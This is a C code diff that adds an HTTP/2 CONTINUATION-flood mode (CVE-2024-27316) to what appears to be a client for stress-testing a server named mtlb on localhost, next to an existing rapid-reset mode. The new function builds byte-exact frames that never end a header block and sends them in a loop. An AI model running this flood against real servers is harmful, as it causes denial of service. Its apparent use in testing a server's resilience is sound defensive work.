@@ -544,6 +544,51 @@ static void rapid_reset(SSL *ssl, struct h2c_sb *out, size_t *out_off, struct po
     fflush(stdout);
 }
 
+/* Writes one frame, reading what comes meanwhile; false once mtlb said GOAWAY or closed. */
+static bool write_frame(SSL *ssl, const uint8_t *f, int len, struct pollfd *pfd)
+{
+    while (!goaway_seen && !peer_closed && !conn_broken) {
+        int w = SSL_write(ssl, f, len);
+        if (w == len) {
+            return true;
+        }
+        int e = SSL_get_error(ssl, w);
+        if (e != SSL_ERROR_WANT_WRITE && e != SSL_ERROR_WANT_READ) {
+            return false;
+        }
+        pfd->events = POLLIN | POLLOUT;
+        if (poll(pfd, 1, 100) > 0 && (pfd->revents & (POLLIN | POLLHUP | POLLERR))) {
+            pump_in(ssl);
+        }
+    }
+    return false;
+}
+
+/* The CONTINUATION flood (CVE-2024-27316 and kin): HEADERS on stream 1 without END_HEADERS,
+ * then CONTINUATION frames of one 1,000-byte field each, never ending the header block. */
+static void continuation_flood(SSL *ssl, struct h2c_sb *out, size_t *out_off, struct pollfd *pfd)
+{
+    static const uint8_t head[] = {0,    0,    14,  1,   0x1, 0,   0,   0,   1,   0x82, 0x87, 0x84,
+                                   0x01, 0x09, 'l', 'o', 'c', 'a', 'l', 'h', 'o', 's',  't',  '\0'};
+    uint8_t f[9 + 1010] = {
+        0x00, 0x03, 0xf2, 9,   0,   0,    0,    0,   1, 0x00,
+        0x05, 'x',  'p',  'a', 'd', 0x7f, 0xe9, 0x06}; /* "xpad": 1000 bytes (7-bit prefix 127 +
+                                                          873) */
+    long done = 0;
+    memset(f + 18, 'a', sizeof(f) - 18);
+    if (pump_out(ssl, out, out_off) && write_frame(ssl, head, sizeof(head) - 1, pfd)) {
+        while (done < opts.continuation_flood && write_frame(ssl, f, (int)sizeof(f), pfd)) {
+            done++;
+            pfd->events = POLLIN;
+            if (poll(pfd, 1, 0) > 0 && (pfd->revents & (POLLIN | POLLHUP | POLLERR))) {
+                pump_in(ssl);
+            }
+        }
+    }
+    printf("continuation-flood sent=%ld\n", done);
+    fflush(stdout);
+}
+
 static int tcp_connect(void)
 {
     char port[16];
@@ -667,6 +712,9 @@ static int run(SSL *ssl, int fd)
     double deadline = now_ms() + opts.timeout_ms, linger_until = 0;
     if (opts.rapid_reset > 0) {
         rapid_reset(ssl, &out, &out_off, &pfd);
+    }
+    if (opts.continuation_flood > 0) {
+        continuation_flood(ssl, &out, &out_off, &pfd);
     }
     int rc = 0;
     while (!conn_broken && !peer_closed) {
